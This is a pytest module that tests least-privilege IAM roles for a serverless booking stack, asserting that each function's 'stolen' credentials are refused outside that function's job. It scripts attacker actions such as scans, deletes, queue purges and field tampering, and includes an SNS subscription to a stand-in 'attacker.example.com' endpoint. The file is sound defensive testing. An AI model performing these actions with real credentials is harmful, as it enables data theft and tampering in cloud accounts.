"""A function's credentials in an attacker's hands: its own step's job is all they do.

Each function role is tried against every data resource of the stack (tables, queues, topic, functions,
state machine) with the actions an attacker would want; only the cells written below as its job may
be allowed, and inside those, only the attributes its step owns."""

from __future__ import annotations

import uuid
from collections.abc import Callable
from typing import Any

import pytest
from botocore.exceptions import ClientError

from tests.support.local_cloud import Credentials, LocalCloud
from tests.support.local_stack import item, put_item, queue_url, table_name

pytestmark = pytest.mark.local_cloud

FUNCTION_ROLES = (
    "ReserveBookingFunctionRole",
    "ConfirmBookingFunctionRole",
    "CancelBookingFunctionRole",
    "NotifyBookingFunctionRole",
    "CollectPaymentFunctionRole",
    "RefundPaymentFunctionRole",
    "IngestLoyaltyFunctionRole",
    "GetLoyaltyFunctionRole",
)
TABLES = ("FlightTable", "BookingTable", "PaymentTable", "LoyaltyTable")
QUEUES = ("LoyaltyQueue", "LoyaltyDeadLetterQueue", "BookingDeadLetterQueue")
TOPICS = ("BookingTopic", "AlarmTopic")
FUNCTIONS = (
    "ReserveBookingFunction",
    "ConfirmBookingFunction",
    "CancelBookingFunction",
    "NotifyBookingFunction",
    "CollectPaymentFunction",
    "RefundPaymentFunction",
    "IngestLoyaltyFunction",
    "GetLoyaltyFunction",
)
STATE_MACHINES = ("BookingStateMachine",)

# Each role's job, and nothing else (the DynamoDB cells are further narrowed to the step's attributes).
JOBS = {
    ("ReserveBookingFunctionRole", "dynamodb:PutItem", "BookingTable"),
    ("ConfirmBookingFunctionRole", "dynamodb:UpdateItem", "BookingTable"),
    ("CancelBookingFunctionRole", "dynamodb:UpdateItem", "BookingTable"),
    ("NotifyBookingFunctionRole", "sns:Publish", "BookingTopic"),
    ("CollectPaymentFunctionRole", "dynamodb:GetItem", "PaymentTable"),
    ("CollectPaymentFunctionRole", "dynamodb:UpdateItem", "PaymentTable"),
    ("RefundPaymentFunctionRole", "dynamodb:UpdateItem", "PaymentTable"),
    ("IngestLoyaltyFunctionRole", "sqs:ReceiveMessage", "LoyaltyQueue"),
    ("IngestLoyaltyFunctionRole", "sqs:DeleteMessage", "LoyaltyQueue"),
    ("IngestLoyaltyFunctionRole", "dynamodb:PutItem", "LoyaltyTable"),
    ("IngestLoyaltyFunctionRole", "dynamodb:UpdateItem", "LoyaltyTable"),
    ("GetLoyaltyFunctionRole", "dynamodb:GetItem", "LoyaltyTable"),
}

Attempt = Callable[[LocalCloud, Credentials, str], Any]


def _key(table: str) -> dict[str, Any]:
    keys = {
        "FlightTable": {"id": {"S": "SA101-2030-01-08"}},
        "BookingTable": {"id": {"S": str(uuid.uuid4())}},
        "PaymentTable": {"bookingId": {"S": str(uuid.uuid4())}},
        "LoyaltyTable": {"customerId": {"S": str(uuid.uuid4())}, "sk": {"S": "TOTAL"}},
    }
    return keys[table]


def _dynamodb(cloud: LocalCloud, credentials: Credentials) -> Any:
    return cloud.client("dynamodb", credentials)


TABLE_ATTEMPTS: dict[str, Attempt] = {
    "dynamodb:GetItem": lambda c, k, t: _dynamodb(c, k).get_item(TableName=table_name(c, t), Key=_key(t)),
    "dynamodb:PutItem": lambda c, k, t: _dynamodb(c, k).put_item(
        TableName=table_name(c, t), Item={**_key(t), "planted": {"S": "by an attacker"}}
    ),
    "dynamodb:UpdateItem": lambda c, k, t: _dynamodb(c, k).update_item(
        TableName=table_name(c, t),
        Key=_key(t),
        UpdateExpression="SET planted = :value",
        ExpressionAttributeValues={":value": {"S": "by an attacker"}},
    ),
    "dynamodb:DeleteItem": lambda c, k, t: _dynamodb(c, k).delete_item(
        TableName=table_name(c, t), Key=_key(t)
    ),
    "dynamodb:Scan": lambda c, k, t: _dynamodb(c, k).scan(TableName=table_name(c, t)),
}
QUEUE_ATTEMPTS: dict[str, Attempt] = {
    "sqs:SendMessage": lambda c, k, q: c.client("sqs", k).send_message(
        QueueUrl=queue_url(c, q), MessageBody="{}"
    ),
    "sqs:ReceiveMessage": lambda c, k, q: c.client("sqs", k).receive_message(
        QueueUrl=queue_url(c, q), WaitTimeSeconds=0, VisibilityTimeout=0
    ),
    "sqs:DeleteMessage": lambda c, k, q: c.client("sqs", k).delete_message(
        QueueUrl=queue_url(c, q), ReceiptHandle="not-a-real-receipt"
    ),
    "sqs:PurgeQueue": lambda c, k, q: c.client("sqs", k).purge_queue(QueueUrl=queue_url(c, q)),
}
TOPIC_ATTEMPTS: dict[str, Attempt] = {
    # No bookingStatus attribute: even if it were published, the loyalty subscription would drop it.
    "sns:Publish": lambda c, k, t: c.client("sns", k).publish(
        TopicArn=c.stack.physical_id(t) if c.stack else t, Message="{}"
    ),
    "sns:Subscribe": lambda c, k, t: c.client("sns", k).subscribe(
        TopicArn=c.stack.physical_id(t) if c.stack else t,
        Protocol="https",
        Endpoint="https://attacker.example.com/notices",
    ),
}
FUNCTION_ATTEMPTS: dict[str, Attempt] = {
    # An empty event: every handler refuses it, so even an allowed invocation would change nothing.
    "lambda:InvokeFunction": lambda c, k, f: c.client("lambda", k).invoke(
        FunctionName=c.stack.physical_id(f) if c.stack else f, Payload=b"{}"
    ),
}
STATE_MACHINE_ATTEMPTS: dict[str, Attempt] = {
    # Not a booking: the saga would fail at its first state, having changed nothing.
    "states:StartExecution": lambda c, k, s: c.client("stepfunctions", k).start_execution(
        stateMachineArn=c.stack.outputs["BookingStateMachineArn"] if c.stack else s,
        name=f"attack-{uuid.uuid4()}",
        input="{}",
    ),
}

CELLS = [
    (role, action, resource, attempt)
    for role in FUNCTION_ROLES
    for resources, attempts in (
        (TABLES, TABLE_ATTEMPTS),
        (QUEUES, QUEUE_ATTEMPTS),
        (TOPICS, TOPIC_ATTEMPTS),
        (FUNCTIONS, FUNCTION_ATTEMPTS),
        (STATE_MACHINES, STATE_MACHINE_ATTEMPTS),
    )
    for resource in resources
    for action, attempt in attempts.items()
    if (role, action, resource) not in JOBS
]


@pytest.fixture(scope="module")
def stolen(cloud: LocalCloud) -> Callable[[str], Credentials]:
    """A role's stolen credentials: one session's per role for the whole module, as a thief holds them.
    What a session may do does not depend on its name, and each new one costs an AssumeRole and a client."""
    sessions: dict[str, Credentials] = {}

    def of(role: str) -> Credentials:
        if role not in sessions:
            sessions[role] = cloud.role_credentials(role)
        return sessions[role]

    return of


def refused(call: Callable[[], Any]) -> str:
    """The refusal's message; fails the test if the call went through."""
    with pytest.raises(ClientError) as error:
        call()
    assert error.value.response["Error"]["Code"] in {"AccessDenied", "AccessDeniedException"}, error.value
    message: str = error.value.response["Error"]["Message"]
    assert "is not authorized to perform" in message
    return message


def test_the_attempts_cover_every_data_resource_and_function_role_of_the_stack(cloud: LocalCloud) -> None:
    assert cloud.stack is not None
    deployed = {
        kind: {resource.logical_id for resource in cloud.stack.of_type(kind)}
        for kind in (
            "AWS::DynamoDB::Table",
            "AWS::SQS::Queue",
            "AWS::SNS::Topic",
            "AWS::Lambda::Function",
            "AWS::StepFunctions::StateMachine",
        )
    }
    functions = cloud.stack.of_type("AWS::Lambda::Function")

    assert deployed["AWS::DynamoDB::Table"] == set(TABLES)
    assert deployed["AWS::SQS::Queue"] == set(QUEUES)
    assert deployed["AWS::SNS::Topic"] == set(TOPICS)
    assert deployed["AWS::Lambda::Function"] == set(FUNCTIONS)
    assert deployed["AWS::StepFunctions::StateMachine"] == set(STATE_MACHINES)
    assert {
        f.properties["Role"].rsplit("/", 1)[-1].removeprefix(f"{cloud.stack.name}-") for f in functions
    } == set(FUNCTION_ROLES)


@pytest.mark.parametrize(
    "cell", CELLS, ids=[f"{role}: {action} on {resource}" for role, action, resource, _ in CELLS]
)
def test_a_stolen_function_credential_is_refused_outside_its_job(
    cloud: LocalCloud, stolen: Callable[[str], Credentials], cell: tuple[str, str, str, Attempt]
) -> None:
    role, action, resource, attempt = cell

    message = refused(lambda: attempt(cloud, stolen(role), resource))

    assert action in message


# ----------------------------------------------------------------- inside the grant: the step's attributes


def a_booking(cloud: LocalCloud, customer_id: str) -> str:
    booking_id = str(uuid.uuid4())
    put_item(
        cloud,
        "BookingTable",
        {
            "id": booking_id,
            "customerId": customer_id,
            "flightId": "SA101-2030-01-08",
            "status": "CONFIRMED",
            "amount": 12900,
            "currency": "EUR",
            "createdAt": "2030-01-01T10:00:00+00:00",
            "bookingReference": "ABC123",
            "confirmedAt": "2030-01-01T10:00:05+00:00",
        },
    )
    return booking_id


def test_stolen_confirm_booking_credentials_cannot_move_a_booking_to_another_customer(
    cloud: LocalCloud,
) -> None:
    victim, attacker = str(uuid.uuid4()), str(uuid.uuid4())
    booking_id = a_booking(cloud, victim)
    before = item(cloud, "BookingTable", {"id": booking_id})
    dynamodb = cloud.client("dynamodb", cloud.role_credentials("ConfirmBookingFunctionRole"))

    refused(
        lambda: dynamodb.update_item(
            TableName=table_name(cloud, "BookingTable"),
            Key={"id": {"S": booking_id}},
            UpdateExpression="SET customerId = :attacker",
            ExpressionAttributeValues={":attacker": {"S": attacker}},
        )
    )

    assert item(cloud, "BookingTable", {"id": booking_id}) == before


def test_stolen_cancel_booking_credentials_cannot_change_what_a_booking_cost(cloud: LocalCloud) -> None:
    booking_id = a_booking(cloud, str(uuid.uuid4()))
    before = item(cloud, "BookingTable", {"id": booking_id})
    dynamodb = cloud.client("dynamodb", cloud.role_credentials("CancelBookingFunctionRole"))

    refused(
        lambda: dynamodb.update_item(
            TableName=table_name(cloud, "BookingTable"),
            Key={"id": {"S": booking_id}},
            UpdateExpression="SET #status = :cancelled, amount = :one REMOVE bookingReference",
            ExpressionAttributeNames={"#status": "status"},
            ExpressionAttributeValues={":cancelled": {"S": "CANCELLED"}, ":one": {"N": "1"}},
        )
    )

    assert item(cloud, "BookingTable", {"id": booking_id}) == before


def test_stolen_reserve_booking_credentials_cannot_forge_a_confirmation(cloud: LocalCloud) -> None:
    booking_id = str(uuid.uuid4())
    dynamodb = cloud.client("dynamodb", cloud.role_credentials("ReserveBookingFunctionRole"))

    refused(
        lambda: dynamodb.put_item(
            TableName=table_name(cloud, "BookingTable"),
            Item={
                "id": {"S": booking_id},
                "customerId": {"S": str(uuid.uuid4())},
                "flightId": {"S": "SA101-2030-01-08"},
                "status": {"S": "CONFIRMED"},
                "amount": {"N": "1"},
                "currency": {"S": "EUR"},
                "createdAt": {"S": "2030-01-01T10:00:00+00:00"},
                "bookingReference": {"S": "FORGED"},
            },
        )
    )

    assert item(cloud, "BookingTable", {"id": booking_id}) is None


def test_stolen_refund_payment_credentials_cannot_rewrite_a_charge(cloud: LocalCloud) -> None:
    booking_id = str(uuid.uuid4())
    charge = {
        "bookingId": booking_id,
        "chargeId": "ch_attack",
        "amount": 12900,
        "currency": "EUR",
        "status": "CAPTURED",
        "createdAt": "2030-01-01T10:00:00+00:00",
    }
    put_item(cloud, "PaymentTable", charge)
    dynamodb = cloud.client("dynamodb", cloud.role_credentials("RefundPaymentFunctionRole"))

    refused(
        lambda: dynamodb.update_item(
            TableName=table_name(cloud, "PaymentTable"),
            Key={"bookingId": {"S": booking_id}},
            UpdateExpression="SET amount = :more",
            ExpressionAttributeValues={":more": {"N": "999999"}},
        )
    )

    assert item(cloud, "PaymentTable", {"bookingId": booking_id}) == charge


def test_stolen_state_machine_credentials_cannot_reprice_a_flight(cloud: LocalCloud) -> None:
    flight_id = f"SA8{uuid.uuid4().int % 100:02d}-2030-01-08"
    flight = {"id": flight_id, "price": 12900, "currency": "EUR", "seatsAvailable": 3}
    put_item(cloud, "FlightTable", flight)
    dynamodb = cloud.client("dynamodb", cloud.role_credentials("BookingStateMachineRole"))

    refused(
        lambda: dynamodb.update_item(
            TableName=table_name(cloud, "FlightTable"),
            Key={"id": {"S": flight_id}},
            UpdateExpression="SET price = :one",
            ExpressionAttributeValues={":one": {"N": "1"}},
        )
    )

    assert item(cloud, "FlightTable", {"id": flight_id}) == flight


def test_stolen_ingest_loyalty_credentials_cannot_plant_other_attributes(cloud: LocalCloud) -> None:
    customer = str(uuid.uuid4())
    dynamodb = cloud.client("dynamodb", cloud.role_credentials("IngestLoyaltyFunctionRole"))

    refused(
        lambda: dynamodb.update_item(
            TableName=table_name(cloud, "LoyaltyTable"),
            Key={"customerId": {"S": customer}, "sk": {"S": "TOTAL"}},
            UpdateExpression="SET #level = :gold",
            ExpressionAttributeNames={"#level": "level"},
            ExpressionAttributeValues={":gold": {"S": "gold"}},
        )
    )

    assert item(cloud, "LoyaltyTable", {"customerId": customer, "sk": "TOTAL"}) is None


def test_the_functions_still_do_their_jobs_within_their_attributes(cloud: LocalCloud) -> None:
    """The narrowing must not break the steps: each role's own request shape is still allowed."""
    booking_id = a_booking(cloud, str(uuid.uuid4()))
    confirm = cloud.client("dynamodb", cloud.role_credentials("ConfirmBookingFunctionRole"))

    confirm.update_item(
        TableName=table_name(cloud, "BookingTable"),
        Key={"id": {"S": booking_id}},
        UpdateExpression="SET #status = :confirmed, bookingReference = :reference, "
        "confirmedAt = if_not_exists(confirmedAt, :now)",
        ConditionExpression="#status IN (:unconfirmed, :confirmed)",
        ExpressionAttributeNames={"#status": "status"},
        ExpressionAttributeValues={
            ":confirmed": {"S": "CONFIRMED"},
            ":unconfirmed": {"S": "UNCONFIRMED"},
            ":reference": {"S": "ABC123"},
            ":now": {"S": "2030-01-01T10:00:09+00:00"},
        },
    )
    reader = cloud.client("dynamodb", cloud.role_credentials("GetLoyaltyFunctionRole"))
    reader.get_item(
        TableName=table_name(cloud, "LoyaltyTable"),
        Key={"customerId": {"S": str(uuid.uuid4())}, "sk": {"S": "TOTAL"}},
        ProjectionExpression="points",
    )

    confirmed = item(cloud, "BookingTable", {"id": booking_id})
    assert confirmed is not None
    assert confirmed["status"] == "CONFIRMED"
